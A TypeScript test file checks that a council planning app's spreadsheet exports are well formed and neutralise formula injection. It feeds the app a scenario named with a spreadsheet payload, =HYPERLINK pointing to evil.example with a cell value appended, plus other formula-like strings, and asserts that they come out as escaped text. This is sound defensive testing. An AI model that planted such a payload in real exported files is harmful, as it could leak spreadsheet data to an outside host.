/**
 * `?format=xlsx` on every endpoint that offers a table: runs, paths, comparisons, plans, demand,
 * designation demand, the mappings and the audit logs. The real app on the Kent data and demand
 * model, a real SQLite file, the workbook written in the result-view worker and opened again with
 * exceljs, as a council's analyst's spreadsheet would open it: sheets, header rows, frozen panes,
 * numbers as numbers, and text a user wrote that starts like a formula neutralised.
 */
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authHeader, buildTestApp, tempDir } from '../helpers/app.js';
import { XLSX_MEDIA_TYPE } from '../../src/http/formats.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let app: FastifyInstance;
let admin: { authorization: string };

async function workbook(url: string, headers: Record<string, string> = admin): Promise<{ book: ExcelJS.Workbook; filename: string }> {
  const res = await app.inject({ url, headers });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  expect(res.headers['content-type']).toBe(XLSX_MEDIA_TYPE);
  const filename = /filename="([^"]+)"/.exec(String(res.headers['content-disposition']))?.[1] ?? '';
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  return { book, filename };
}

async function csv(url: string): Promise<Record<string, string>[]> {
  const res = await app.inject({ url, headers: admin });
  expect(res.statusCode).toBe(200);
  return parse(res.body, { columns: true }) as Record<string, string>[];
}

const sheetNames = (book: ExcelJS.Workbook) => book.worksheets.map((s) => s.name);
const header = (sheet: ExcelJS.Worksheet) => (sheet.getRow(1).values as unknown[]).slice(1);
/** Every row after the header as objects keyed by the header. */
function rowsOf(sheet: ExcelJS.Worksheet): Record<string, unknown>[] {
  const names = header(sheet) as string[];
  const rows: Record<string, unknown>[] = [];
  sheet.eachRow((row, n) => {
    if (n === 1) return;
    const values = row.values as unknown[];
    rows.push(Object.fromEntries(names.map((name, i) => [name, values[i + 1] ?? null])));
  });
  return rows;
}
/** Every text cell of the workbook. */
function texts(book: ExcelJS.Workbook): string[] {
  const out: string[] = [];
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && out.push(cell.value))));
  return out;
}

/** Every sheet: the header row frozen, and no text cell starting like a formula. */
function expectSafeAndFrozen(book: ExcelJS.Workbook) {
  for (const sheet of book.worksheets) {
    expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).font?.bold, sheet.name).toBe(true);
  }
  expect(texts(book).filter((t) => /^[=+\-@\t\r]/.test(t))).toEqual([]);
  // And no cell is a formula at all.
  const formulas: string[] = [];
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
  expect(formulas).toEqual([]);
}

function aboutItems(book: ExcelJS.Workbook) {
  const about = book.getWorksheet('About')!;
  expect(header(about)).toEqual(['section', 'item', 'value', 'basis', 'grade']);
  return rowsOf(about);
}

let runId: string;
let baseRunId: string;
let pathId: string;
let planId: string;

beforeAll(async () => {
  app = await buildTestApp({ dataDir: tempDir('planner-xlsx-') });
  admin = await authHeader(app, 'admin', 'A. Admin');
  const post = async (url: string, payload: object) => {
    const res = await app.inject({ method: 'POST', url, payload, headers: admin });
    expect(res.statusCode, res.body.slice(0, 300)).toBeLessThan(300);
    return res.json() as { id: string; status: string };
  };
  const until = async (url: string) => {
    for (let i = 0; i < 600; i++) {
      const body = (await app.inject({ url, headers: admin })).json() as { status: string; error: string | null };
      if (body.status === 'done') return;
      if (body.status === 'failed') throw new Error(`${url} failed: ${body.error}`);
      await new Promise((r) => setTimeout(r, 200));
    }
    throw new Error(`${url} did not finish`);
  };
  // A scenario posted in full whose name is a formula: it reaches the run's and the plan's workbooks.
  const hostile = { id: 'hostile-2026', name: HOSTILE, year: 2026, level: 'district', designationSet: 'proposed' };
  baseRunId = (await post('/runs', { scenarioId: 'proposed-designations-2026' })).id;
  runId = (await post('/runs', { scenario: hostile })).id;
  pathId = (await post('/runs', { scenarioId: 'proposed-designations-2025-2028' })).id;
  planId = (await post('/plans', { scenario: hostile, horizon: { from: 2026, to: 2026 }, budgets: { total: 3_000_000 }, timeLimitSeconds: 30 })).id;
  for (const id of [baseRunId, runId, pathId]) await until(`/runs/${id}`);
  await until(`/plans/${planId}`);
  // An officer's decision and a saved scenario whose words start like formulas.
  const mappings = (await app.inject({ url: '/designations/mappings', headers: admin })).json() as { items: { urn: number; version: number }[] };
  const first = mappings.items[0]!;
  await post(`/designations/mappings/${first.urn}/decision`, { decision: 'approve', reason: '+1+1 agreed at panel', expectedVersion: first.version });
  await post('/scenarios', { id: 'saved-hostile', name: '@SUM(A1:A9)', year: 2026, level: 'district', designationSet: 'proposed' });
}, 600_000);

afterAll(async () => app?.close());

describe('workbooks (?format=xlsx)', () => {
  it('when a single-year run is downloaded as a workbook, then it has an About sheet and a sheet per table, headers frozen, numbers as numbers equal to the CSV, and its formula-like name neutralised', async () => {
    const { book, filename } = await workbook(`/runs/${runId}?format=xlsx`);
    expect(filename).toBe(`run-${runId}.xlsx`);
    const run = (await app.inject({ url: `/runs/${runId}` })).json() as { result: { assumptions: { name: string; basis: string }[]; calibration: unknown } };
    const tables = ['Totals', 'By locality', 'Provisions', 'Outreach', 'Place values', 'Independent by category', ...(run.result.calibration ? ['Calibration'] : [])];
    expect(sheetNames(book)).toEqual(['About', ...tables]);
    expectSafeAndFrozen(book);

    const about = aboutItems(book);
    expect(about.find((r) => r.item === 'scenarioName')?.value).toBe(`'${HOSTILE}`);
    // Every assumption of the run, each with its basis and grade; the grades counted; places by grade.
    const assumptions = about.filter((r) => r.section === 'Assumption');
    expect(assumptions.map((r) => r.item)).toEqual(run.result.assumptions.map((a) => a.name));
    expect(assumptions.find((r) => r.item === 'unknownSrpPlaces')?.grade).toBe('assumption');
    expect(about.some((r) => r.section === 'Evidence grades' && /^srp places graded (source|estimate|assumption)$/.test(String(r.item)))).toBe(true);
    expect(about.find((r) => r.section === 'Scenario' && r.item === 'year')?.value).toBe(2026);

    // The locality table is the CSV's, cell for cell, with numbers as numbers.
    const fromCsv = await csv(`/runs/${runId}?format=csv&table=byLocality`);
    const sheet = book.getWorksheet('By locality')!;
    expect(header(sheet)).toEqual(Object.keys(fromCsv[0]!));
    const rows = rowsOf(sheet);
    expect(rows.length).toBe(fromCsv.length);
    expect(sheet.getCell('E2').type).toBe(ExcelJS.ValueType.Number);
    for (const [i, row] of rows.entries()) {
      expect(row.demand).toBe(Number(fromCsv[i]!.demand));
      expect(row.shortfall).toBe(Number(fromCsv[i]!.shortfall));
      expect(row.localityName).toBe(fromCsv[i]!.localityName);
    }
  });

  it('when a path is downloaded as a workbook, then each of its tables is a sheet, its years as the CSV has them', async () => {
    const { book } = await workbook(`/runs/${pathId}?format=xlsx`);
    expect(sheetNames(book)).toEqual(['About', 'Years', 'Localities by year', 'Supply changes', 'By locality', 'Provisions', 'Outreach']);
    expectSafeAndFrozen(book);
    const years = rowsOf(book.getWorksheet('Years')!);
    const fromCsv = await csv(`/runs/${pathId}?format=csv&table=years`);
    expect(years.map((y) => y.year)).toEqual([2025, 2026, 2027, 2028]);
    expect(years.map((y) => y.shortfall)).toEqual(fromCsv.map((y) => Number(y.shortfall)));
    expect(aboutItems(book).find((r) => r.item === 'horizon')?.value).toBe('2025-2028');
  });

  it('when two runs are compared as a workbook, then it holds the totals and every table of the comparison, like the JSON', async () => {
    const { book, filename } = await workbook(`/runs/${baseRunId}/compare/${runId}?format=xlsx`);
    expect(filename).toBe(`compare-${baseRunId}-${runId}.xlsx`);
    expect(sheetNames(book)).toEqual(['About', 'Totals', 'By locality', 'Provisions', 'Outreach']);
    expectSafeAndFrozen(book);
    const json = (await app.inject({ url: `/runs/${baseRunId}/compare/${runId}` })).json() as { totals: { measure: string; change: number }[] };
    const totals = rowsOf(book.getWorksheet('Totals')!);
    expect(totals.map((t) => [t.measure, t.change])).toEqual(json.totals.map((t) => [t.measure, t.change]));
    expect(aboutItems(book).find((r) => r.section === 'Other run' && r.item === 'scenarioName')?.value).toBe(`'${HOSTILE}`);
  });

  it('when a plan is downloaded as a workbook, then the builds sheet is the CSV, and what it was asked is on the About sheet', async () => {
    const { book } = await workbook(`/plans/${planId}?format=xlsx`);
    expect(sheetNames(book).slice(0, 5)).toEqual(['About', 'Builds', 'By year', 'Totals', 'Special places']);
    expectSafeAndFrozen(book);
    const builds = rowsOf(book.getWorksheet('Builds')!);
    const fromCsv = await csv(`/plans/${planId}?format=csv`);
    expect(builds.length).toBe(fromCsv.length);
    expect(builds.map((b) => b.capital)).toEqual(fromCsv.map((b) => Number(b.capital)));
    const about = aboutItems(book);
    expect(about.find((r) => r.item === 'budgets.total')?.value).toBe(3_000_000);
    expect(about.find((r) => r.item === 'scenarioName')?.value).toBe(`'${HOSTILE}`);
  });

  it('when demand and designation demand are downloaded as workbooks, then their rows are the CSV rows and their assumptions carry grades', async () => {
    const demand = await workbook('/demand?year=2027&format=xlsx');
    expect(sheetNames(demand.book)).toEqual(['About', 'Demand']);
    expectSafeAndFrozen(demand.book);
    const rows = rowsOf(demand.book.getWorksheet('Demand')!);
    const fromCsv = await csv('/demand?year=2027&format=csv');
    expect(rows.map((r) => r.count)).toEqual(fromCsv.map((r) => Number(r.count)));
    expect(aboutItems(demand.book).filter((r) => r.section === 'Assumption').every((r) => r.grade !== '')).toBe(true);

    const designations = await workbook('/demand/designations?year=2026&format=xlsx');
    expect(sheetNames(designations.book)).toEqual(['About', 'Designation demand', 'No longer meet special', 'Changes']);
    expectSafeAndFrozen(designations.book);
    const json = (await app.inject({ url: '/demand/designations?year=2026' })).json() as { noLongerMeetSpecial: { total: number } };
    const moved = rowsOf(designations.book.getWorksheet('No longer meet special')!);
    expect(moved.reduce((s, r) => s + (r.count as number), 0)).toBeCloseTo(json.noLongerMeetSpecial.total, 0);
  });

  it('when the review log, the scenario log, the key log and the mappings are downloaded as workbooks, then words that start like formulas are text', async () => {
    const audit = await workbook('/audit?format=xlsx');
    expect(sheetNames(audit.book)).toEqual(['About', 'Decisions']);
    expectSafeAndFrozen(audit.book);
    expect(rowsOf(audit.book.getWorksheet('Decisions')!).map((r) => r.reason)).toEqual(["'+1+1 agreed at panel"]);

    const scenarios = await workbook('/audit/scenarios?format=xlsx');
    expectSafeAndFrozen(scenarios.book);
    expect(rowsOf(scenarios.book.getWorksheet('Scenario changes')!).map((r) => r.name)).toEqual(["'@SUM(A1:A9)"]);

    const keys = await workbook('/audit/keys?format=xlsx');
    expectSafeAndFrozen(keys.book);
    expect(rowsOf(keys.book.getWorksheet('Keys')!).map((r) => [r.action, r.key_name])).toEqual([['create', 'A. Admin']]);

    const mappings = await workbook('/designations/mappings?format=xlsx');
    expectSafeAndFrozen(mappings.book);
    const json = (await app.inject({ url: '/designations/mappings', headers: admin })).json() as { total: number };
    expect(rowsOf(mappings.book.getWorksheet('Mappings')!).length).toBe(json.total);
  });

  it('when a workbook is asked by its media type in Accept, then it is the same as ?format=xlsx', async () => {
    const { book } = await workbook(`/runs/${runId}`, { ...admin, accept: XLSX_MEDIA_TYPE });
    expect(sheetNames(book)[0]).toBe('About');
  });
});
